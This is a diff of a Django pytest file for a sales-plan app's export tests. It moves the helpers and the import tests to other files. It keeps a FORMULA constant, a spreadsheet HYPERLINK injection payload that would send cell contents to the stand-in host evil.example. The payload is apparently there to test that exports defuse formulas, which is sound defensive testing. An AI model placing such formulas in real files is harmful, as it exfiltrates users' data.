@@ -1,89 +1,25 @@
 """Plans as files through the API: one plan as CSV, XLSX, Markdown or JSON, the workspace's
-plans as one table for RevOps, and the JSON imported back into an equal plan."""
+plans as one table for RevOps (the import is in test_imports.py)."""
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
 import io
 import json
 from typing import Any
 
-import pytest
 from django.db import connection
-from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from openpyxl import load_workbook
 
 from mutualplan.plans.exports import export_workspace
-from mutualplan.plans.models import Deal, Milestone, Plan, Stakeholder
+from mutualplan.plans.models import Deal, Stakeholder
 from mutualplan.plans.seller_view import plan_dict
 from mutualplan.workspaces.models import Workspace
-from tests.conftest import BUYER, Api, make_plan, new_plan, share_link_token
+from tests.api.conftest import csv_rows, download, xlsx_rows
+from tests.conftest import Api, make_plan, new_plan
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-
-
-def download(api: Api, path: str) -> Any:
-    response = api.client.get(f"/api/v1{path}", headers=api._headers())
-    return response
-
-
-def csv_rows(content: bytes) -> list[list[str]]:
-    assert content.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte-order mark"
-    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
-
-
-def xlsx_rows(content: bytes) -> list[list[Any]]:
-    sheet = load_workbook(io.BytesIO(content)).active
-    assert sheet is not None
-    return [[c.value for c in row] for row in sheet.iter_rows()]
-
-
-@pytest.fixture
-def rich_plan(owner: Any, owner_api: Api) -> dict[str, Any]:
-    """A plan with everything a file must carry: people, an owner person, dependencies,
-    private notes, checklist answers, a done row, a buyer-added row, confirmation."""
-    plan = new_plan(owner_api, country="US", business_days=True)
-    pid = plan["id"]
-    rows = plan["milestones"]
-    person = owner_api.post(
-        f"/plans/{pid}/stakeholders",
-        {"name": "Dana Legal", "email": "dana@buyer.example", "team": "Legal", "role": "legal"},
-    ).json_body
-    owner_api.post(
-        f"/plans/{pid}/stakeholders",
-        {"name": "Zoë Champion", "email": "zoe@buyer.example", "role": "champion"},
-    )
-    legal = next(m for m in rows if m["step_type"] == "legal_redline")
-    changed = owner_api.patch(
-        f"/plans/{pid}/milestones/{legal['id']}",
-        {
-            "version": legal["version"],
-            "owner_person_id": person["id"],
-            "private_notes": "Dana is new in the role",
-            "notes": "MSA v3 | redlines\nsecond line",
-            "risk_checklist": {"owner_named": "yes", "owner_briefed": "no"},
-            "depends_on": [rows[0]["id"], rows[1]["id"]],
-            "turnaround_days": 12,
-        },
-    )
-    assert changed.status_code == 200, changed.json_body
-    first = rows[0]
-    done = owner_api.patch(
-        f"/plans/{pid}/milestones/{first['id']}", {"version": first["version"], "status": "done"}
-    )
-    assert done.status_code == 200, done.json_body
-    token = share_link_token(plan, owner)
-    buyer = Api(Client())
-    buyer_row = buyer.post(
-        f"/shared/{token}/milestones",
-        {"actor": BUYER, "title": "Internal IT sign-off", "owner_side": "buyer"},
-    )
-    assert buyer_row.status_code == 201, buyer_row.json_body
-    confirmed = buyer.post(f"/shared/{token}/confirm", {"actor": BUYER})
-    assert confirmed.status_code in (200, 201), confirmed.json_body
-    return owner_api.get(f"/plans/{pid}").json_body  # type: ignore[no-any-return]
 
 
 def test_a_plan_exports_as_csv_with_every_title_owner_date_and_status(
@@ -162,67 +98,6 @@ def test_a_plan_exports_as_a_markdown_table_that_pastes_into_notion(
     assert "MSA v3 \\| redlines<br>second line" in text
     # Only what the buyer may see: a pasted table is shared.
     assert "Dana is new in the role" not in text and "120000" not in text
-
-
-def test_the_json_export_imports_back_into_an_equal_plan(
-    owner_api: Api, rich_plan: dict[str, Any]
-) -> None:
-    exported = download(owner_api, f"/plans/{rich_plan['id']}/export?format=json")
-    assert exported.status_code == 200
-    document = json.loads(exported.content)
-    assert document["format"] == "mutualplan.plan" and document["version"] == 1
-    imported = owner_api.post("/plans/import", document)
-    assert imported.status_code == 201, imported.json_body
-    copy = imported.json_body
-    assert copy["id"] != rich_plan["id"]
-    assert Plan.objects.count() == 2 and Deal.objects.count() == 2
-
-    # The two files are the same, field by field.
-    again = json.loads(download(owner_api, f"/plans/{copy['id']}/export?format=json").content)
-    assert again == document
-
-    # And the two plans read the same, except ids, versions and the times of writing.
-    def comparable(plan: dict[str, Any]) -> dict[str, Any]:
-        ids = {m["id"]: m["position"] for m in plan["milestones"]}
-        skip = {"id", "version", "added_at", "created_at", "updated_at"}
-        rows = [
-            {k: v for k, v in m.items() if k not in skip}
-            | {
-                "depends_on": sorted(ids[d] for d in m["depends_on"]),
-                "owner_person": m["owner_person"] and m["owner_person"]["name"],
-            }
-            for m in plan["milestones"]
-        ]
-        top = {k: v for k, v in plan.items() if k not in skip | {"milestones", "warnings", "deal"}}
-        deal = {k: v for k, v in plan["deal"].items() if k != "id"}
-        return {"plan": top, "deal": deal, "rows": rows}
-
-    assert comparable(copy) == comparable(rich_plan)
-    people = Stakeholder.objects.filter(deal__plan__id=copy["id"]).order_by("id")
-    assert [(p.name, p.email, p.team, p.role) for p in people] == [
-        ("Dana Legal", "dana@buyer.example", "Legal", "legal"),
-        ("Zoë Champion", "zoe@buyer.example", "", "champion"),
-    ]
-    original = Milestone.objects.filter(plan_id=rich_plan["id"]).order_by("position")
-    copied = Milestone.objects.filter(plan_id=copy["id"]).order_by("position")
-    fields = ["baseline_due_date", "anchor_offset", "confirmed_at", "private_notes"]
-    assert [[getattr(m, f) for f in fields] for m in copied] == [
-        [getattr(m, f) for f in fields] for m in original
-    ]
-    assert any(m.added_by_side == "buyer" for m in copied)
-
-
-def test_a_draft_plan_without_dates_round_trips(owner_api: Api) -> None:
-    draft = new_plan(owner_api, target_offset=None)
-    assert draft["status"] == "draft"
-    document = json.loads(download(owner_api, f"/plans/{draft['id']}/export?format=json").content)
-    copy = owner_api.post("/plans/import", document).json_body
-    assert copy["status"] == "draft" and copy["target_date"] is None
-    assert [m["due_date"] for m in copy["milestones"]] == [None] * 8
-    csv_text = download(owner_api, f"/plans/{draft['id']}/export?format=csv").content
-    assert [r[4] for r in csv_rows(csv_text)[1:]] == [""] * 8
-    md = download(owner_api, f"/plans/{draft['id']}/export?format=md").content.decode()
-    assert "not set yet (a draft)" in md
 
 
 def test_an_empty_plan_exports_a_header_and_imports_back_empty(owner_api: Api) -> None:
@@ -351,82 +226,6 @@ def test_the_workspace_export_costs_the_same_queries_for_2_and_20_plans(
         plan = make_plan(owner)
         Stakeholder.objects.create(deal=plan.deal, name=f"Person {i}")
     assert count() == (few, 160)
-
-
-def test_an_import_with_bad_fields_names_each_one_and_creates_nothing(
-    owner_api: Api, plan: dict[str, Any]
-) -> None:
-    document = json.loads(download(owner_api, f"/plans/{plan['id']}/export?format=json").content)
-    document["milestones"][1]["status"] = "finished"
-    document["milestones"][2]["due_date"] = "2027-02-30"
-    document["milestones"][3]["depends_on"] = ["m99"]
-    document["milestones"][4]["owner_side"] = None
-    document["deal"]["amount"] = "-5"
-    before = (Plan.objects.count(), Deal.objects.count(), Milestone.objects.count())
-    response = owner_api.post("/plans/import", document)
-    assert response.status_code == 400
-    assert response.json_body["errors"] == [
-        {"field": "deal.amount", "message": "must be a number from 0 to 999,999,999,999.99"},
-        {
-            "field": "milestones[1].status",
-            "message": "unknown value 'finished'; use one of "
-            "not_started, in_progress, done, blocked",
-        },
-        {"field": "milestones[2].due_date", "message": "'2027-02-30' is not a date (YYYY-MM-DD)"},
-        {"field": "milestones[4].owner_side", "message": "is required"},
-        {"field": "milestones[3].depends_on", "message": "no milestone has the key 'm99'"},
-    ]
-    assert (Plan.objects.count(), Deal.objects.count(), Milestone.objects.count()) == before
-
-
-def test_an_import_checks_the_workspaces_account_types_and_stages(
-    owner_api: Api, plan: dict[str, Any]
-) -> None:
-    document = json.loads(download(owner_api, f"/plans/{plan['id']}/export?format=json").content)
-    document["deal"]["account_type"] = "galactic"
-    document["deal"]["stage"] = "dreaming"
-    document["plan"]["country"] = "XX"
-    response = owner_api.post("/plans/import", document)
-    assert response.status_code == 400
-    fields = [e["field"] for e in response.json_body["errors"]]
-    assert fields == ["deal.account_type", "deal.stage", "plan.country"]
-    assert Plan.objects.count() == 1
-
-
-def test_an_import_refuses_what_is_not_a_mutualplan_export(owner_api: Api) -> None:
-    for body, field in (
-        ({"hello": 1}, "format"),
-        ({"format": "mutualplan.plan", "version": 7}, "version"),
-        ([1, 2], "body"),
-    ):
-        response = owner_api.post("/plans/import", body)
-        assert response.status_code == 400, body
-        assert response.json_body["errors"][0]["field"] == field
-    broken = owner_api.post("/plans/import", raw="{not json")
-    assert broken.status_code == 400
-    assert Plan.objects.count() == 0
-
-
-def test_a_dependency_cycle_in_the_file_is_refused(owner_api: Api, plan: dict[str, Any]) -> None:
-    document = json.loads(download(owner_api, f"/plans/{plan['id']}/export?format=json").content)
-    document["milestones"][0]["depends_on"] = ["m2"]
-    document["milestones"][1]["depends_on"] = ["m1"]
-    response = owner_api.post("/plans/import", document)
-    assert response.status_code == 400
-    assert response.json_body["errors"] == [
-        {"field": "milestones", "message": "dependencies form a cycle: m1 -> m2 -> m1"}
-    ]
-
-
-def test_the_imported_deal_keeps_its_owner_when_they_are_in_the_workspace(
-    owner_api: Api, teammate_api: Api, outsider_api: Api, plan: dict[str, Any]
-) -> None:
-    document = json.loads(download(owner_api, f"/plans/{plan['id']}/export?format=json").content)
-    mine = teammate_api.post("/plans/import", document).json_body
-    assert mine["deal"]["owner"] == "olivia@acme.example"
-    theirs = outsider_api.post("/plans/import", document).json_body
-    assert theirs["deal"]["owner"] == "oscar@globex.example"
-    assert Plan.objects.get(id=theirs["id"]).workspace.slug == "globex"
 
 
 def test_unicode_survives_every_format(owner_api: Api) -> None:
